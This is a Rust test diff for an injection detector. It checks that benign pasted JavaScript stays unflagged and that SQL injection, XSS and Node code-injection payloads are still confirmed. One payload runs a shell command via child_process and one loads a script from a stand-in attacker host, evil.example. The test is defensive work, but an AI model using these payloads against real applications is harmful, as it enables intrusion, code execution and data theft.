@@ -119,6 +119,38 @@ fn benign_text_that_looks_like_code_stays_unconfirmed() {
     }
 }
 
+/// Code a developer pastes into a support form: after a string of its own, code compares, joins
+/// and calls where an injection breaks out, and requires packages by name. Each was confirmed
+/// before `quotes` (SQLi, XSS) and the handler and `require` rules; the payloads after them show
+/// what the same rules still confirm.
+#[test]
+fn pasted_code_stays_unconfirmed_and_the_injections_it_resembles_do_not() {
+    for t in [
+        "return name === 'content-type' || name === 'content-length'",
+        "var link = this.get('Link') || '';",
+        "renderOptions.cache = this.enabled('view cache');\nif (renderOptions.cache) {",
+        "throw new FST_ERR_LISTEN_OPTIONS_INVALID('Invalid options.signal')\nthis[kState].aborted = true",
+        "const onFinish = require('on-finished')",
+        "require('on-finished')",
+    ] {
+        let f = value(t);
+        assert!(!f.any_confirmed(), "{t}: {:?}", confirmed(&f));
+    }
+    for (p, family) in [
+        ("x' || (SELECT password FROM users)--", Family::Sqli),
+        ("(SELECT 'qjbqq'||(SELECT (CASE WHEN (2783=8770) THEN 1 ELSE 0 END))::text||'qzpvq')", Family::Sqli),
+        ("\\' ' or 1=1--", Family::Sqli),
+        ("';alert(1)//", Family::Xss),
+        ("'x';top['al'+'ert'](1)//", Family::Xss),
+        ("\" onfocus=alert(1) autofocus=\"", Family::Xss),
+        ("\" onfocus = alert(1) x=\"", Family::Xss),
+        ("require('child_process').exec('id')", Family::Code),
+        ("require('http://evil.example/x.js')", Family::Code),
+    ] {
+        assert!(confirmed(&value(p)).contains(&family), "{p}: {:?}", confirmed(&value(p)));
+    }
+}
+
 /// Text that mentions what the new detectors look for, and data that shares their characters:
 /// XML prose and documents, multi-line messages, developers' questions quoting code, JSON with
 /// `$` keys, base64 and hex that start with other letters, CSS with escapes.
